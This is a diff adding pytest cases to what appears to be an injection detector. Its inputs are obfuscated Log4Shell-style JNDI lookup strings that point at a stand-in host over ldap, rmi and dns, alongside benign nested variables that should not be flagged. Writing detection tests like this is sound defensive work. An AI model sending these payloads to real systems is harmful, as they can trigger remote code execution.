@@ -70,3 +70,21 @@ def test_pasted_statements_stay_below_sure():
 def test_generated_honest_values_are_not_suspected():
     suspected = [text for text in generated(1500, seed=4) if ask(text)[1] >= 0.7]
     assert suspected == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "${${unicode:006A}ndi:ldap://x.example/a}",
+        "${j${unicode:U+006e}di:rmi://x.example/a}",
+        "${${any:thing}ndi:ldap://x.example/a}",
+        "${jn${ctx:a}i:dns://x.example}",
+    ],
+)
+def test_letters_that_only_the_machine_knows_hide_nothing(text):
+    assert ask(text) == ("lookup-jndi", 0.98)
+
+
+@pytest.mark.parametrize("text", ["${${a}:x}", "${${a.b}d:x}", "${name:${other}}", "${${theme}-${size}}"])
+def test_nested_variables_are_no_hidden_name(text):
+    assert ask(text)[1] < 0.5
